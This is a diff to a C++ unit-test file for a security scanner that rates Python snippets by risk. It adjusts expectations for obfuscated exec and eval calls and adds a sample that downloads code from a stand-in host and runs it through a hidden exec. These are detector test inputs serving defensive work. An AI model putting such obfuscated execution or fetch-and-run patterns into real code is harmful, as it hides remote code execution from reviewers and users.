@@ -137,9 +137,13 @@ TEST(AssessCapabilities, RegexPatternsNameWhatTheyLookForWithoutDoingIt) {
 }
 
 TEST(AssessCapabilities, HiddenCallsAreRatedByWhatTheyReach) {
-  // exec reached through vars(builtins) with a name in pieces: hidden code execution.
-  EXPECT_EQ(level("import builtins, sys\nvars(builtins)['ex' + 'ec'](sys.stdin.read())\n"), RiskLevel::blocked);
-  EXPECT_EQ(level("import builtins, sys\ngetattr(builtins, 'ev' + 'al')(sys.argv[1])\n"), RiskLevel::blocked);
+  // exec reached through vars(builtins) with a name in pieces: hidden code execution, HIGH;
+  // in a file that talks to the network, download-and-execute: BLOCKED.
+  EXPECT_EQ(level("import builtins, sys\nvars(builtins)['ex' + 'ec'](sys.stdin.read())\n"), RiskLevel::high);
+  EXPECT_EQ(level("import builtins, sys\ngetattr(builtins, 'ev' + 'al')(sys.argv[1])\n"), RiskLevel::high);
+  EXPECT_EQ(level("import builtins, urllib.request\nsrc = urllib.request.urlopen('http://x.example/t').read()\n"
+                  "def runner():\n    return vars(builtins)['ex' + 'ec']\nrunner()(src)\n"),
+            RiskLevel::blocked);
   // A hidden constant command is raised one level, from MEDIUM to HIGH.
   EXPECT_EQ(level("import subprocess\ngetattr(subprocess, 'check_' + 'output')(['uptime'])\n"), RiskLevel::high);
   // Socket, dup2 and a shell, each reached by a computed name, are still a reverse shell.
@@ -171,7 +175,8 @@ TEST(AssessCapabilities, EncryptionWithARansomNoteIsRansomware) {
 
 TEST(AssessCapabilities, ANameSpelledBackwardsIsStillThatName) {
   EXPECT_EQ(level("import builtins\nrun = getattr(builtins, ''.join(reversed('lave')))\nrun(input())\n"),
-            RiskLevel::blocked);
+            RiskLevel::high);
+  EXPECT_TRUE(has_rule("import builtins\nrun = getattr(builtins, ''.join(reversed('lave')))\n", "SR-OBF-030"));
   EXPECT_EQ(level("print(''.join(reversed('olleh')))\n"), RiskLevel::low);
 }
 
